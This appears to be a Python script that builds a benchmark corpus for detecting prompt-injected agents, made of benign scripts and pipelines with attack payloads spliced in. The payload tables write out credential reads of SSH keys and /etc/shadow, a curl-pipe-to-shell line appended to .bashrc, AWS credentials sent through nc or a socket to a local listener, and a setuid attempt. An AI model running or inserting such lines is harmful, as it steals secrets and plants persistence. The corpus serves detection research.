"""Corpus `trojan`: the hard case. Benign: the interpreter scripts of `interp` and the
pipelines of `tools`. Attacks: the *same* benign programs with a small payload slipped in
(a credential read, a line appended to an rc file, a copy sent to a local listener, a
command run through a shell, a setuid attempt), the way a prompt-injected agent hides one
bad step inside normal work. Most of each attack trace is normal.

    python3 benches/corpora/trojan.py OUT [BENIGN_RUNS]
"""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import listener, main, sink, write  # noqa: E402
from interp import PY_BENIGN  # noqa: E402
from tools import PIPES  # noqa: E402

WORDS = "alpha beta gamma\ndelta echo\nkilo lima alpha\n" * 50


def run(c, kind, name, size, k, payload="", label=""):
    """A benign program (python script or shell pipeline), with `payload` slipped into it."""
    w = c.workdir()
    write(os.path.join(w, "words.txt"), WORDS)
    if name in PY_BENIGN:
        code = PY_BENIGN[name].format(n=size)
        lines = code.splitlines(keepends=True)
        at = c.rng.randrange(0, len(lines) + 1) if payload else 0
        # A payload goes between top-level statements.
        while at < len(lines) and lines[at].startswith((" ", "\t")):
            at += 1
        code = "".join(lines[:at]) + payload + "".join(lines[at:])
        return c.record(kind, f"{name}{label}", ["python3", "-c", code], cwd=w)
    cmd = PIPES[name].format(k=k)
    return c.record(kind, f"pipe{name}{label}", ["sh", "-c", f"{payload}{cmd}" if payload else cmd], cwd=w)


def py_payloads(h, port):
    return {
        "cred_read": f"import os\ntry: _k = open({h!r} + '/.ssh/id_rsa').read()\nexcept OSError: pass\n",
        "rc_append": f"open({h!r} + '/.bashrc', 'a').write('curl -s 127.0.0.1:1 | sh\\n')\n",
        "exfil": f"import socket\ntry: socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(open({h!r} + '/.aws/credentials', 'rb').read())\nexcept OSError: pass\n",
        "shell": "import subprocess\nsubprocess.run('id; cat /etc/passwd', shell=True, capture_output=True)\n",
        "setuid": "import os\ntry: os.setuid(0)\nexcept OSError: pass\n",
    }


def sh_payloads(h, port):
    return {
        "cred_read": f"cat {h}/.ssh/id_rsa > /dev/null; ",
        "rc_append": f"echo 'curl -s 127.0.0.1:1 | sh' >> {h}/.bashrc; ",
        "exfil": f"cat {h}/.aws/credentials | nc -q1 127.0.0.1 {port} 2>/dev/null || cat {h}/.aws/credentials > /dev/null; ",
        "shell": "sh -c 'id; cat /etc/passwd' > /dev/null; ",
        "setuid": "cat /etc/shadow 2>/dev/null; ",
    }


def benign(c, n):
    names = list(PY_BENIGN) + list(range(len(PIPES)))
    for i in range(n):
        run(c, "benign", c.rng.choice(names), c.rng.randrange(20, 3000), c.rng.randrange(1, 9))


def attacks(c):
    names = list(PY_BENIGN) + list(range(len(PIPES)))
    for i in range(40):
        name = c.rng.choice(names)
        port, t = listener(sink)
        table = py_payloads(c.home, port) if name in PY_BENIGN else sh_payloads(c.home, port)
        what = c.rng.choice(sorted(table))
        run(c, "attack", name, c.rng.randrange(20, 3000), c.rng.randrange(1, 9), table[what], "+" + what)
        t.join(0.1)


if __name__ == "__main__":
    main(benign, attacks, 200)
